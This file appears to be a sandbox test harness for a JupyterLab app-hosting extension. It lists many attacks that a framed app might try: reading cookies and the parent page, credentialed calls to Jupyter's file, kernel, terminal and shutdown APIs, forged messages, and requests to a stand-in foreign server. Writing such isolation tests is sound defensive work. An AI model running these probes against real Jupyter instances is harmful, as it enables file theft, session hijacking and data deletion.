// What a generated app might try, from within its frame. Every attack is a function that returns what it has got hold of,
// or throws. Whether it got anywhere is judged outside: by what arrives at Jupyter and at the foreign server, and by the
// words below, which say that something of Jupyter could be read.
const jupyter = location.origin + BASE;
const foreign = FOREIGN;
const sleep = ms => new Promise(done => setTimeout(done, ms));
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return `STATUS ${answer.status} ${(await answer.text()).slice(0, 200)}`;
};
const socket = url => new Promise((done, failed) => {
  const opened = new WebSocket(url.replace(/^http/, 'ws'));
  opened.onopen = () => done('OPENED');
  opened.onerror = () => failed(new Error('refused'));
  setTimeout(() => failed(new Error('nothing')), 1500);
});
const element = (tag, attributes, parent = document.body) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done('LOADED');
  made.onerror = () => done('failed');
  Object.assign(made, attributes);
  for (const [name, value] of Object.entries(attributes)) if (typeof value === 'string') made.setAttribute(name, value);
  parent.append(made);
  setTimeout(() => done('nothing'), 800);
});
const form = (attributes, fields = {}) => {
  const made = document.createElement('form');
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    input.type = 'hidden'; input.name = name; input.value = value;
    made.append(input);
  }
  document.body.append(made);
  made.submit();
};
const styled = css => { const made = document.createElement('style'); made.textContent = css; document.head.append(made); };
const worker = text => new Promise((done, failed) => {
  const made = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  made.onmessage = ({ data }) => done(String(data));
  made.onerror = () => failed(new Error('failed'));
  setTimeout(() => failed(new Error('nothing')), 1200);
});

const ATTACKS = {
  // ------------------------------------------------------------------------------------------- what JupyterLab's page holds
  'document.cookie': () => 'READ ' + document.cookie,
  'localStorage': () => 'KEYS ' + Object.keys(window.localStorage),
  'sessionStorage': () => 'KEYS ' + Object.keys(window.sessionStorage),
  'indexedDB': () => new Promise((done, failed) => {
    const asked = indexedDB.open('JupyterLab Storage');
    asked.onsuccess = () => done('OPENED'); asked.onerror = () => failed(new Error('refused'));
  }),
  'parent DOM': () => 'READ ' + parent.document.body.innerHTML.length,
  'top DOM': () => 'READ ' + top.document.title,
  'parent.eval': () => 'RAN ' + parent.eval('1+1'),
  'top.jupyterapp': () => 'READ ' + typeof top.jupyterapp.commands,
  'parent frames': () => parent.frames[0] === window ? fail() : 'READ ' + parent.frames[0].document.title,
  'opener': () => opener ? 'READ ' + opener.document.title : fail(),
  'BroadcastChannel': () => new Promise((done, failed) => {
    const channel = new BroadcastChannel('@jupyterlab/x');
    channel.onmessage = () => done('HEARD'); setTimeout(() => failed(new Error('silence')), 300);
  }),
  'storage access': async () => { await document.requestStorageAccess(); return 'READ ' + document.cookie; },
  'service worker': async () => { await navigator.serviceWorker.register('sw.js'); return 'REGISTERED'; },
  'shared worker': () => new Promise((done, failed) => {
    const made = new SharedWorker(jupyter + 'lab/extensions/x.js'); made.onerror = () => failed(new Error('failed'));
    setTimeout(() => failed(new Error('nothing')), 500);
  }),
  // ------------------------------------------------------------------------------------------------------ Jupyter's API
  'fetch contents': () => read(jupyter + 'api/contents', { credentials: 'include' }),
  'fetch kernels': () => read(jupyter + 'api/kernels', { credentials: 'include' }),
  'fetch no-cors': () => read(jupyter + 'api/status', { mode: 'no-cors', credentials: 'include' }),
  'fetch files': () => read(jupyter + 'files/secret.txt', { credentials: 'include' }),
  'fetch terminals': () => read(jupyter + 'api/terminals', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  'fetch with a stolen token': () => read(jupyter + 'api/contents?token=t', {}),
  'POST kernels': () => read(jupyter + 'api/kernels', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }),
  'POST kernels with xsrf': () => read(jupyter + 'api/kernels', {
    method: 'POST', credentials: 'include', body: '{}', headers: { 'X-XSRFToken': 'x' } }),
  'DELETE contents': () => read(jupyter + 'api/contents/secret.txt', { method: 'DELETE', credentials: 'include' }),
  'PUT contents': () => read(jupyter + 'api/contents/x.txt', { method: 'PUT', credentials: 'include', body: '{}' }),
  'townie api': () => read(jupyter + 'townie/api/threads', { credentials: 'include' }),
  'own wrapper': () => read(jupyter + 'townie/view/' + APP, { credentials: 'include' }),
  'shutdown': () => read(jupyter + 'api/shutdown', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  'XMLHttpRequest': () => new Promise((done, failed) => {
    const asked = new XMLHttpRequest(); asked.open('GET', jupyter + 'api/contents'); asked.withCredentials = true;
    asked.onload = () => done('STATUS ' + asked.status); asked.onerror = () => failed(new Error('refused')); asked.send();
  }),
  'EventSource': () => new Promise((done, failed) => {
    const made = new EventSource(jupyter + 'api/events', { withCredentials: true });
    made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
  }),
  'sendBeacon': () => navigator.sendBeacon(jupyter + 'api/kernels', '{}') && 'sent perhaps',
  'WebSocket kernel': () => socket(jupyter + 'api/kernels/00000000-0000-0000-0000-000000000000/channels'),
  'WebSocket terminal': () => socket(jupyter + 'terminals/websocket/1'),
  'WebSocket events': () => socket(jupyter + 'api/events/subscribe'),
  'WebSocket app channel': () => socket(jupyter + 'townie/api/apps/' + APP + '/channel'),
  'script of the API': () => element('script', { src: jupyter + 'api/contents' }),
  'script of a file': () => element('script', { src: jupyter + 'files/secret.js' }),
  'stylesheet of a file': () => element('link', { rel: 'stylesheet', href: jupyter + 'files/secret.css' }),
  'image of a file': () => element('img', { src: jupyter + 'files/secret.png' }),
  'module of a file': () => import(jupyter + 'files/secret.js').then(() => 'IMPORTED'),
  'object': () => element('object', { data: jupyter + 'lab' }),
  'embed': () => element('embed', { src: jupyter + 'lab' }),
  'frame of the lab': () => element('iframe', { src: jupyter + 'lab' }),
  'frame of the API': () => element('iframe', { src: jupyter + 'api/contents' }),
  'frame of the view': () => element('iframe', { src: jupyter + 'townie/view/' + APP }),
  'srcdoc frame': async () => {
    await element('iframe', { srcdoc: `<script>fetch('${jupyter}api/contents',{credentials:'include'})</scr` + 'ipt>' }); return 'tried';
  },
  'blob frame': () => element('iframe', { src: URL.createObjectURL(new Blob(
    [`<script>fetch('${jupyter}api/contents',{credentials:'include'});document.title=document.cookie</scr` + 'ipt>'], { type: 'text/html' })) }),
  'data frame': () => element('iframe', { src: `data:text/html,<script>fetch('${jupyter}api/contents')</scr` + 'ipt>' }),
  'javascript: frame': () => element('iframe', { src: 'javascript:fetch("' + jupyter + 'api/contents")' }),
  'blob worker': () => worker(`fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>postMessage('STATUS '+a.status),()=>postMessage('refused'))`),
  'worker importScripts': () => worker(`try{importScripts('${jupyter}files/secret.js');postMessage('LOADED')}catch(e){postMessage('refused')}`),
  'worker socket': () => worker(`new WebSocket('${jupyter.replace(/^http/, 'ws')}api/events/subscribe').onopen=()=>postMessage('OPENED')`),
  'base and relative': async () => {
    const base = document.createElement('base'); base.href = jupyter; document.head.prepend(base);
    try { return await element('img', { src: 'api/status' }); } finally { base.remove(); }
  },
  'redirect through the app': () => read(location.href.replace(/[^/]*$/, '') + '_townie/../../../../api/status'),
  'encoded way up': () => read(location.href.replace(/[^/]*$/, '') + '..%2f..%2f..%2f..%2fapi/status'),
  'double slash': () => read(location.origin + '//api/status'),
  'CSS import': async () => { styled(`@import url(${jupyter}files/secret.css); body{background:url(${jupyter}api/status)}`); await sleep(400); return 'tried'; },
  'font': async () => { styled(`@font-face{font-family:x;src:url(${jupyter}api/status)} body{font-family:x}`); await sleep(400); return 'tried'; },
  'video': () => element('video', { src: jupyter + 'api/status' }),
  'track': () => element('audio', { src: jupyter + 'files/secret.mp3' }),
  'manifest': () => element('link', { rel: 'manifest', href: jupyter + 'api/status' }),
  'prefetch Jupyter': () => element('link', { rel: 'prefetch', href: jupyter + 'api/status' }),
  'preload Jupyter': () => element('link', { rel: 'preload', as: 'fetch', href: jupyter + 'api/status' }),
  'modulepreload Jupyter': () => element('link', { rel: 'modulepreload', href: jupyter + 'files/secret.js' }),
  'speculation rules': async () => {
    const made = document.createElement('script'); made.type = 'speculationrules';
    made.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [jupyter + 'lab', foreign + 'speculation'], eagerness: 'immediate' }],
      prerender: [{ source: 'list', urls: [jupyter + 'lab'], eagerness: 'immediate' }] });
    document.head.append(made); await sleep(600); return 'tried';
  },
  'SVG use': async () => {
    const made = document.createElement('div'); made.innerHTML = `<svg><use href="${jupyter}files/secret.svg#a"/><image href="${jupyter}api/status"/></svg>`;
    document.body.append(made); await sleep(300); return 'tried';
  },
  // ---------------------------------------------------------------------------------------------------------- navigation
  'popup': () => { const made = window.open(jupyter + 'lab', '_blank'); return made ? 'OPENED' : 'nothing'; },
  'popup logout': () => { const made = window.open(jupyter + 'logout'); return made ? 'OPENED' : 'nothing'; },
  'form to a popup': async () => { form({ action: jupyter + 'api/kernels', method: 'post', target: '_blank', enctype: 'text/plain' }, { '{"a': '1"}' }); await sleep(300); return 'tried'; },
  'form POST in a frame': async () => {
    const frame = document.createElement('iframe'); frame.name = 'inner'; document.body.append(frame);
    form({ action: jupyter + 'api/kernels', method: 'post', target: 'inner' }); await sleep(300); return 'tried';
  },
  'form to the top': async () => { form({ action: jupyter + 'logout', method: 'get', target: '_top' }); await sleep(300); return 'tried'; },
  'link to the top': async () => {
    const made = document.createElement('a'); made.href = jupyter + 'logout'; made.target = '_top'; document.body.append(made);
    made.click(); await sleep(300); return 'tried';
  },
  'top.location': () => { top.location = jupyter + 'logout'; return 'tried'; },
  'top.location.replace': () => { top.location.replace(foreign + 'top'); return 'tried'; },
  'parent.location': () => { parent.location.href = foreign + 'parent'; return 'tried'; },
  'forged message': async () => {
    for (const data of [{ townie: 1, hello: 'x' }, { townie: 1, app: APP, event: 'refused', message: 'FORGED' }, { townie: 1, app: APP, event: 'document' }]) {
      parent.postMessage(data, '*', [new MessageChannel().port2]); top.postMessage(data, '*', [new MessageChannel().port2]);
    }
    await sleep(200); return 'tried';
  },
  // ----------------------------------------------------------------------------------------------------------- leaving
  'fetch foreign': () => read(foreign + 'fetch', { mode: 'no-cors' }),
  'image foreign': () => element('img', { src: foreign + 'image' }),
  'script foreign': () => element('script', { src: foreign + 'script' }),
  'style foreign': () => element('link', { rel: 'stylesheet', href: foreign + 'style' }),
  'css foreign': async () => { styled(`body{background:url(${foreign}css)}`); await sleep(300); return 'tried'; },
  'frame foreign': () => element('iframe', { src: foreign + 'frame' }),
  'beacon foreign': () => navigator.sendBeacon(foreign + 'beacon', 'x') && 'tried',
  'ping foreign': async () => {
    const made = document.createElement('a'); made.href = '#'; made.ping = foreign + 'ping'; document.body.append(made);
    made.click(); await sleep(300); return 'tried';
  },
  'socket foreign': () => socket(foreign + 'socket'),
  'prefetch foreign': () => element('link', { rel: 'prefetch', href: foreign + 'prefetch' }),
  'worker foreign': () => worker(`fetch('${foreign}worker',{mode:'no-cors'}).then(()=>postMessage('SENT'),()=>postMessage('refused'))`),
  'CSP report': async () => { await element('img', { src: foreign + 'report' }); return 'tried'; }
};
const fail = () => { throw new Error('missing'); };
const NAVIGATIONS = {
  'download of the lab': () => {
    const made = document.createElement('a'); made.href = jupyter + 'api/contents'; made.download = 'x';
    document.body.append(made); made.click();
  },
  'self to the lab': () => { location.href = jupyter + 'lab'; },
  'self to the API': () => { location.replace(jupyter + 'api/contents'); },
  'self to a foreign server': () => { location.href = foreign + 'self'; },
  'self to the view': () => { location.href = jupyter + 'townie/view/' + APP; },
  'self by meta refresh': () => {
    const made = document.createElement('meta'); made.httpEquiv = 'refresh'; made.content = `0;url=${foreign}refresh`; document.head.append(made);
  },
  'self by a form': () => form({ action: jupyter + 'api/kernels', method: 'post' }),
  'form to a foreign server': () => form({ action: foreign + 'form', method: 'post' }),
  'self to javascript': () => { location.href = 'javascript:document.write(document.cookie)'; },
  'self to data': () => { location.href = `data:text/html,<script>location='${foreign}data'</scr` + 'ipt>'; },
  'self to blob': () => {
    location.href = URL.createObjectURL(new Blob([`<script>location='${foreign}blob'</scr` + 'ipt>'], { type: 'text/html' }));
  }
};
window.attack = async only => {
  const results = {};
  await Promise.all(Object.entries(ATTACKS).filter(([name]) => !only || only === name).map(async ([name, run]) => {
    console.info('attack', name);
    try { results[name] = String(await run()); } catch (error) { results[name] = 'blocked: ' + error.message; }
  }));
  await sleep(800);
  return results;
};
window.leave = name => { NAVIGATIONS[name](); };
window.attacks = Object.keys(ATTACKS);
window.navigations = Object.keys(NAVIGATIONS);
